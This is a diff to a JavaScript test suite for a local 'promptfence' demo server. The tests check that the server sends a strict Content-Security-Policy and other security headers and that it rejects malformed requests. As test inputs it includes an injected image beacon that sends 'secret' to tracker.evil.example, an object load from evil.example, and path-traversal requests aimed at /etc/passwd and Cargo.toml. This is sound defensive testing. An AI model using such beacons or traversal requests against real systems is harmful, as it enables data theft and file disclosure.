@@ -5,9 +5,16 @@
 // "real endpoint" mode goes through the demo server's pass-through to its
 // own OpenAI-compatible mock route (never the internet); a 50 KB paste is
 // screened; the page fits a phone. No console errors anywhere.
+// The server sends a strict Content-Security-Policy (scripts from its own
+// origin only, 'wasm-unsafe-eval' for the module; no eval, no inline
+// script, no third-party images, no framing) and nosniff on every
+// response, and every page here runs under it with no CSP violation. The
+// server answers malformed requests (/%E0%A4%A, /a%00b, traversal, bad
+// HTTP) with 4xx and keeps serving.
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
 import fs from "node:fs";
+import net from "node:net";
 import path from "node:path";
 import { after, before, test } from "node:test";
 
@@ -41,11 +48,22 @@ after(async () => {
   await stop(server);
 });
 
-test("demo page screens a prompt and the streamed answer", { timeout: 60_000 }, async () => {
-  const page = await browser.newPage({ viewport: { width: 1200, height: 860 } });
+/** Records uncaught exceptions, console errors (Chromium logs a refused
+ * CSP load or eval there too) and securitypolicyviolation events. */
+async function watch(page) {
   const errors = [];
   page.on("pageerror", (e) => errors.push(e.message));
   page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (e) =>
+      console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI}`));
+  });
+  return errors;
+}
+
+test("demo page screens a prompt and the streamed answer", { timeout: 60_000 }, async () => {
+  const page = await browser.newPage({ viewport: { width: 1200, height: 860 } });
+  const errors = await watch(page);
   await page.goto(base + "/", { waitUntil: "load" });
   await page.waitForFunction(() => window.pfReady === true, null, { timeout: 20_000 });
 
@@ -76,9 +94,7 @@ test("demo page screens a prompt and the streamed answer", { timeout: 60_000 }, 
 /** A page that records console errors and uncaught exceptions. */
 async function openPage(viewport = { width: 1200, height: 900 }) {
   const page = await browser.newPage({ viewport });
-  const errors = [];
-  page.on("pageerror", (e) => errors.push(e.message));
-  page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
+  const errors = await watch(page);
   await page.goto(base + "/", { waitUntil: "load" });
   await page.waitForFunction(() => window.pfReady === true, null, { timeout: 20_000 });
   return { page, errors };
@@ -218,4 +234,108 @@ test("a 50 KB paste is screened (time shown); labelled controls; fits a phone", 
   await page.screenshot({ path: path.join(ROOT, "target/demo-phone.png"), fullPage: true });
   assert.deepEqual(errors, [], `page errors: ${errors.join("\n")}\nserver: ${serverLog}`);
   await page.close();
+});
+
+const CSP_DIRECTIVES = {
+  "script-src": "'self' 'wasm-unsafe-eval'",
+  "object-src": "'none'",
+  "base-uri": "'none'",
+  "frame-ancestors": "'none'",
+  "default-src": "'none'",
+  "img-src": "'self' data:",
+};
+
+/** Every response carries the CSP and nosniff. */
+function assertSecurityHeaders(headers, where) {
+  const csp = headers.get("content-security-policy") ?? "";
+  const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(" ")]));
+  for (const [k, v] of Object.entries(CSP_DIRECTIVES)) assert.equal(directives[k], v, `${where}: ${k} in "${csp}"`);
+  assert.ok(!/'unsafe-inline'|'unsafe-eval'/.test(csp), `${where}: ${csp}`);
+  assert.equal(headers.get("x-content-type-options"), "nosniff", where);
+  assert.equal(headers.get("x-frame-options"), "DENY", where);
+}
+
+test("demo server: CSP and nosniff on every response; the CSP is enforced in the page", { timeout: 60_000 }, async () => {
+  const requests = [
+    ["/", {}], ["/app.js", {}], ["/style.css", {}], ["/pkg/index.js", {}], ["/pkg/promptfence_bg.wasm", {}],
+    ["/api/tool", {}], ["/no-such-file", {}], ["/server.mjs", {}],
+    ["/api/chat", { method: "POST", body: JSON.stringify({ prompt: "hi", scenario: "echo" }) }],
+    ["/api/chat", { method: "POST", body: "not json" }],
+  ];
+  for (const [p, init] of requests) {
+    const r = await fetch(base + p, init);
+    await r.arrayBuffer();
+    assertSecurityHeaders(r.headers, `${init.method ?? "GET"} ${p} (${r.status})`);
+  }
+  const { page, errors } = await openPage();
+  // Injected markup cannot run script or load a third-party image: each is
+  // refused (a securitypolicyviolation) before it runs or any request goes.
+  const refused = (html) => page.evaluate((h) => new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
+    document.body.insertAdjacentHTML("beforeend", h);
+    if (h.startsWith("<script")) {
+      // insertAdjacentHTML never runs a script; a created one would.
+      const s = document.createElement("script");
+      s.textContent = "window.pfInjected = 1";
+      document.body.append(s);
+    }
+  }), html);
+  assert.equal(await refused('<img src="https://tracker.evil.example/pixel.png?d=secret">'),
+    "img-src https://tracker.evil.example/pixel.png?d=secret");
+  assert.equal(await refused("<script></script>"), "script-src-elem inline");
+  assert.equal(await page.evaluate(() => window.pfInjected), undefined);
+  // (a cross-origin blockedURI is reported as its origin only)
+  assert.match(await refused('<object data="https://evil.example/x.swf"></object>'), /^object-src https:\/\/evil\.example/);
+  const rest = errors.filter((e) => !/CSP violation|Content Security Policy/.test(e));
+  assert.equal(errors.length - rest.length >= 3, true, `violations not reported: ${errors.join("\n")}`);
+  assert.deepEqual(rest, [], `page errors: ${rest.join("\n")}\nserver: ${serverLog}`);
+  await page.close();
+});
+
+/** Sends raw bytes to the server; resolves with the status line ("" if the
+ * connection closed without an answer). */
+function raw(bytes) {
+  const { port } = new URL(base);
+  return new Promise((resolve, reject) => {
+    const sock = net.connect(Number(port), "127.0.0.1");
+    let got = "";
+    sock.setTimeout(5_000, () => sock.destroy(new Error("no answer in 5 s")));
+    sock.on("data", (d) => { got += d.toString("latin1"); });
+    sock.on("error", reject);
+    sock.on("close", () => resolve(got.split("\r\n")[0]));
+    // write, not end: a half-closed socket may be dropped before an
+    // asynchronous answer. The server closes (Connection: close / 400).
+    sock.write(bytes);
+  });
+}
+
+test("demo server survives malformed requests (/%E0%A4%A, /a%00b, traversal, bad HTTP)", { timeout: 60_000 }, async () => {
+  const cases = [
+    ["GET /%E0%A4%A HTTP/1.1", 400], // truncated UTF-8: decodeURIComponent throws
+    ["GET /a%00b HTTP/1.1", 400], // NUL byte: fs would throw
+    ["GET /pkg/%00 HTTP/1.1", 400],
+    ["GET /%ZZ HTTP/1.1", 400],
+    ["GET /..%2f..%2fCargo.toml HTTP/1.1", 403],
+    ["GET /pkg/..%2f..%2fCargo.toml HTTP/1.1", 403],
+    ["GET /..%5c..%5cCargo.toml HTTP/1.1", 404],
+    ["GET /../../etc/passwd HTTP/1.1", 404], // the URL parser removes the dots
+    ["GET /server.mjs HTTP/1.1", 403],
+    ["GET http://[ HTTP/1.1", 400], // not a URL at all
+    ["HEAD /%E0%A4%A HTTP/1.1", 400],
+  ];
+  for (const [line, status] of cases) {
+    const got = await raw(`${line}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
+    assert.match(got, new RegExp(`^HTTP/1\\.1 ${status} `), `${line} -> ${got}`);
+  }
+  // Not HTTP/1.1 at all: an answer (400, or what Node's parser makes of
+  // it) or a closed connection, never a dead server.
+  for (const junk of ["\x00\x01\x02 nonsense\r\n\r\n", "GET / HTTP/1.1\r\nBad Header\r\n\r\n",
+    "GET /%E0%A4%A\r\n\r\n", `GET /${"a".repeat(100_000)} HTTP/1.1\r\n\r\n`]) {
+    const got = await raw(junk);
+    assert.ok(got === "" || /^HTTP\/1\.1 \d{3} /.test(got), `${JSON.stringify(junk.slice(0, 40))} -> ${got}`);
+  }
+  assert.equal(server.exitCode, null, `the server exited: ${serverLog}`);
+  const r = await fetch(base + "/");
+  assert.equal(r.status, 200);
+  assert.match(await r.text(), /promptfence demo/);
 });
